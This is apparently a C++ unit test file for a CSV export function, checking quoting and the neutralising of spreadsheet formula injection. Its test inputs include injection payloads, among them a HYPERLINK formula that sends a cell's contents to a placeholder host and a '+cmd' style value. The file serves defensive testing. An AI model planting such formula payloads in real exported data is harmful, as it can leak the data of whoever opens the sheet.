#include "client/cli/core/csv.h"

#include <gtest/gtest.h>

namespace pinka::cli {
namespace {

TEST(CsvLine, QuotesWhatWouldBreakALine) {
  EXPECT_EQ(CsvLine({CsvText("王芳"), CsvText("a,b"), CsvText("say \"hi\""), CsvText("")}),
            "王芳,\"a,b\",\"say \"\"hi\"\"\",\r\n");
  EXPECT_EQ(CsvLine({CsvText("微调,第\"1\"版"), CsvText("two\nlines")}),
            "\"微调,第\"\"1\"\"版\",\"two\nlines\"\r\n");
  EXPECT_EQ(CsvTitles({"at", "amount"}), "at,amount\r\n");
}

TEST(CsvLine, GuardsByWhatACellIs) {  // C77
  EXPECT_EQ(CsvLine({CsvNumber("-10.00"), CsvNumber("-0.01"), CsvNumber("12")}),
            "-10.00,-0.01,12\r\n");
  EXPECT_EQ(CsvLine({CsvText("-5"), CsvText("-10.00")}), "'-5,'-10.00\r\n") << "a member's name";
  EXPECT_EQ(CsvLine({CsvNumber("-1+cmd"), CsvNumber("=1"), CsvNumber("-")}), "'-1+cmd,'=1,'-\r\n");
}

TEST(CsvLine, DisarmsFormulas) {
  EXPECT_EQ(CsvLine({CsvText("=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")")}),
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\"\r\n");
  EXPECT_EQ(CsvLine({CsvText("+1+1"), CsvText("-2+3"), CsvText("@SUM(A1)"), CsvText("-")}),
            "'+1+1,'-2+3,'@SUM(A1),'-\r\n");
  EXPECT_EQ(CsvLine({CsvText("\tx"), CsvText("\t=1"), CsvText(" =1")}), "'\tx,'\t=1,' =1\r\n");
  EXPECT_EQ(CsvLine({CsvText("\rx")}), "\"'\rx\"\r\n");
  EXPECT_EQ(CsvLine({CsvText("＝1+1"), CsvText("＋1"), CsvText("－1"), CsvText("＠A")}),
            "'＝1+1,'＋1,'－1,'＠A\r\n");
  EXPECT_EQ(CsvLine({CsvText("\xEF\xBB\xBF=1"), CsvText("\"=1")}),
            "'\xEF\xBB\xBF=1,\"'\"\"=1\"\r\n");
  EXPECT_EQ(CsvLine({CsvText("a=b"), CsvText("3-4"), CsvText("王芳@lab")}), "a=b,3-4,王芳@lab\r\n");
}

}  // namespace
}  // namespace pinka::cli
